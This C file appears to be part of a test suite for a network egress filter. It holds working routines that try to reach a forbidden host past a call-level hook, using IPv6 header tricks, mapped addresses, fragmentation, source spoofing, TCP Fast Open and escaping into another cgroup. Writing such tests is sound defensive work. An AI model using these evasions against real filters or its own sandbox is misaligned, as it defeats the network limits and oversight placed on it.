/* packets NAME: more ways to send a packet to the forbidden server: what a hook on the call does not see, or sees otherwise
 * than the packet is in the end. Whether it worked is told by the server alone. */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/icmpv6.h>
#include <linux/sched.h>
#include <net/if.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif
#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

static struct sockaddr_in6 bad6 = { .sin6_family = AF_INET6 }, good6 = { .sin6_family = AF_INET6 };

static int tcp(void)
{
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd p = { s, POLLOUT, 0 };

	connect(s, (struct sockaddr *)&bad, sizeof(bad));
	poll(&p, 1, 200);
	return 0;
}

/* A segment routing header beside the packet instead of on the socket. */
static int routing_message(void)
{
	struct {
		uint8_t next, len, type, left, last, flags;
		uint16_t tag;
		struct in6_addr segments[2];
	} srh = { 0, 4, 4, 1, 1, 0, 0, { good6.sin6_addr, bad6.sin6_addr } };
	static const int types[] = { IPV6_RTHDR, IPV6_2292RTHDR };
	char control[CMSG_SPACE(sizeof(srh))] = { 0 };
	struct iovec io = { (void *)payload, sizeof(payload) };
	struct msghdr m = { .msg_name = &good6, .msg_namelen = sizeof(good6), .msg_iov = &io, .msg_iovlen = 1,
		.msg_control = control, .msg_controllen = sizeof(control) };
	int s = socket(AF_INET6, SOCK_DGRAM, 0);

	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++) {
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);

		c->cmsg_level = IPPROTO_IPV6;
		c->cmsg_type = types[i];
		c->cmsg_len = CMSG_LEN(sizeof(srh));
		memcpy(CMSG_DATA(c), &srh, sizeof(srh));
		sendmsg(s, &m, 0);
	}
	return 0;
}

/* Destination and hop-by-hop options, which push the real header away from where it is looked for. */
static int extension_headers(void)
{
	static const uint8_t pad[] = { 0, 1, 1, 12, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 };
	int s = socket(AF_INET6, SOCK_DGRAM, 0);

	setsockopt(s, IPPROTO_IPV6, IPV6_HOPOPTS, pad, sizeof(pad));
	setsockopt(s, IPPROTO_IPV6, IPV6_DSTOPTS, pad, sizeof(pad));
	setsockopt(s, IPPROTO_IPV6, IPV6_RTHDRDSTOPTS, pad, sizeof(pad));
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&bad6, sizeof(bad6));
	return 0;
}

/* Addresses of IPv4 on sockets of IPv6, by each call. */
static int v4_on_v6(void)
{
	int u = socket(AF_INET6, SOCK_DGRAM, 0), c = socket(AF_INET6, SOCK_DGRAM, 0);
	int t = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct sockaddr_in6 odd = bad6;

	sendto(u, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	connect(c, (struct sockaddr *)&bad, sizeof(bad));
	send(c, payload, sizeof(payload), MSG_NOSIGNAL);
	connect(t, (struct sockaddr *)&bad, sizeof(bad));
	odd.sin6_family = AF_UNSPEC;
	sendto(u, payload, sizeof(payload), 0, (struct sockaddr *)&odd, sizeof(odd));
	return 0;
}

/* A socket that is connected where it may be is told to forget that, and says another address meanwhile. */
static int unspec(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0), t = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in none = bad;

	none.sin_family = AF_UNSPEC;
	connect(s, (struct sockaddr *)&good, sizeof(good));
	connect(s, (struct sockaddr *)&none, sizeof(none));
	send(s, payload, sizeof(payload), MSG_NOSIGNAL);
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&none, sizeof(none));
	connect(t, (struct sockaddr *)&good, sizeof(good));
	connect(t, (struct sockaddr *)&none, sizeof(none));
	sendto(t, payload, sizeof(payload), MSG_FASTOPEN | MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)&none, sizeof(none));
	sendto(t, payload, sizeof(payload), MSG_FASTOPEN | MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

static int ping6(void)
{
	struct icmp6hdr echo = { .icmp6_type = ICMPV6_ECHO_REQUEST };
	int s = socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6);

	if (s < 0)
		return absent("ping sockets");
	sendto(s, &echo, sizeof(echo), 0, (struct sockaddr *)&bad6, sizeof(bad6));
	connect(s, (struct sockaddr *)&bad6, sizeof(bad6));
	send(s, &echo, sizeof(echo), 0);
	return 0;
}

/* Larger than the device takes: in fragments, of which only the first has ports. */
static int udp_large(void)
{
	static const char big[40000];
	int s = socket(AF_INET, SOCK_DGRAM, 0), s6 = socket(AF_INET6, SOCK_DGRAM, 0), want = IP_PMTUDISC_DONT;

	setsockopt(s, IPPROTO_IP, IP_MTU_DISCOVER, &want, sizeof(want));
	sendto(s, big, sizeof(big), 0, (struct sockaddr *)&bad, sizeof(bad));
	sendto(s6, big, sizeof(big), 0, (struct sockaddr *)&bad6, sizeof(bad6));
	return 0;
}

/* Many datagrams in one call, cut apart by the kernel. */
static int udp_segments(void)
{
	static const char many[12000];
	int s = socket(AF_INET, SOCK_DGRAM, 0), size = 1000;

	if (setsockopt(s, IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size)))
		return absent("UDP segments");
	sendto(s, many, sizeof(many), 0, (struct sockaddr *)&bad, sizeof(bad));
	return 0;
}

/* A source address that nobody has here (IPv4 looks whether it is one's own when it sends). */
static int free_bind(void)
{
	struct sockaddr_in6 from = { .sin6_family = AF_INET6 };
	int s = socket(AF_INET6, SOCK_DGRAM, 0), on = 1;

	inet_pton(AF_INET6, "2001:db8::77", &from.sin6_addr);
	setsockopt(s, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof(on));
	bind(s, (struct sockaddr *)&from, sizeof(from));
	sendto(s, payload, sizeof(payload), 0, (struct sockaddr *)&bad6, sizeof(bad6));
	return 0;
}

/* The local port of a flow that is allowed, to another address. */
static int shared_port(void)
{
	int a = socket(AF_INET, SOCK_DGRAM, 0), b = socket(AF_INET, SOCK_DGRAM, 0), on = 1;
	struct sockaddr_in own = { .sin_family = AF_INET };
	socklen_t len = sizeof(own);

	setsockopt(a, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	setsockopt(b, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	bind(a, (struct sockaddr *)&own, sizeof(own));
	getsockname(a, (struct sockaddr *)&own, &len);
	bind(b, (struct sockaddr *)&own, sizeof(own));
	for (int i = 0; i < 5; i++) {
		sendto(a, payload, sizeof(payload), 0, (struct sockaddr *)&good, sizeof(good));
		sendto(b, payload, sizeof(payload), 0, (struct sockaddr *)&bad, sizeof(bad));
	}
	return 0;
}

/* Joining a group on a device makes the kernel itself send a report, in which the attacker chose 28 bits. */
static int membership(void)
{
	struct if_nameindex *list = if_nameindex();
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	for (struct if_nameindex *i = list; i && i->if_index; i++) {
		struct ip_mreqn join = { .imr_ifindex = (int)i->if_index };

		inet_pton(AF_INET, forbidden("GROUP", "239.7.0.1"), &join.imr_multiaddr);
		setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof(join));
	}
	if_freenameindex(list);
	poll(NULL, 0, 1200); /* the kernel repeats its reports at a random moment of a second: the last one is waited for */
	return 0;
}

/* A first packet with data, from a socket of IPv6, to an address of IPv4 and to one of IPv6. */
static int tfo6(void)
{
	struct sockaddr_in6 mapped = bad6;

	memset(&mapped.sin6_addr, 0, 10);
	memset(mapped.sin6_addr.s6_addr + 10, 0xff, 2);
	memcpy(mapped.sin6_addr.s6_addr + 12, &bad.sin_addr, 4);
	for (int i = 0; i < 2; i++) {
		int s = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
		struct pollfd p = { s, POLLOUT, 0 };

		sendto(s, payload, sizeof(payload), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)(i ? &mapped : &bad6),
			sizeof(bad6));
		poll(&p, 1, 200);
	}
	return 0;
}

/* $CGROUPS: folders of a group that judges nobody, in each hierarchy, with ':' between. Moves itself there, and calls. */
static int cgroup_procs(void)
{
	static const char *const files[] = { "cgroup.procs", "tasks", "cgroup.threads", "../cgroup.procs" };
	char *list = getenv("CGROUPS") ? strdup(getenv("CGROUPS")) : NULL, *rest = list, *group, path[512];
	int moved = 0;

	if (!list)
		return absent("CGROUPS");
	while ((group = strsep(&rest, ":"))) {
		for (size_t i = 0; i < (getenv("INSIDE") ? 4 : 1); i++) {
			int fd;

			snprintf(path, sizeof(path), "%s/%s", group, files[i]);
			fd = open(path, O_WRONLY);
			if (fd < 0)
				fd = open(path, O_RDWR);
			moved += write(fd, "0", 1) == 1;
			close(fd);
		}
		snprintf(path, sizeof(path), "%s/made-%d", group, (int)getpid());
		if (mkdir(path, 0700) == 0) {
			moved++;
			rmdir(path);
		}
	}
	printf("made %d\n", moved);
	free(list);
	return tcp();
}

static int clone_into_cgroup(void)
{
	struct clone_args args = { .flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD };
	char *list = getenv("CGROUPS") ? strdup(getenv("CGROUPS")) : NULL, *rest = list, *group;

	if (!list)
		return absent("CGROUPS");
	while ((group = strsep(&rest, ":"))) {
		int fd = open(group, O_RDONLY | O_DIRECTORY);
		long pid;

		args.cgroup = (uint64_t)fd;
		pid = syscall(SYS_clone3, &args, sizeof(args));
		if (pid == 0)
			_exit(tcp());
		if (pid > 0) {
			printf("made %ld\n", pid);
			waitpid((pid_t)pid, NULL, 0);
		}
		close(fd);
	}
	free(list);
	return 0;
}

static const struct attack attacks[] = {
	{ "routing-message", routing_message }, { "extension-headers", extension_headers }, { "v4-on-v6", v4_on_v6 },
	{ "unspec", unspec }, { "ping6", ping6 }, { "udp-large", udp_large }, { "udp-segments", udp_segments },
	{ "free-bind", free_bind }, { "shared-port", shared_port }, { "membership", membership }, { "tfo6", tfo6 }, { "cgroup-procs", cgroup_procs },
	{ "clone-into-cgroup", clone_into_cgroup }, { NULL, NULL },
};

int main(int argc, char **argv)
{
	bad6.sin6_port = good6.sin6_port = htons(80);
	inet_pton(AF_INET6, forbidden("FORBIDDEN6", "2001:db8::a"), &bad6.sin6_addr);
	inet_pton(AF_INET6, "2001:db8::9", &good6.sin6_addr);
	return attack_main(argc, argv, attacks);
}
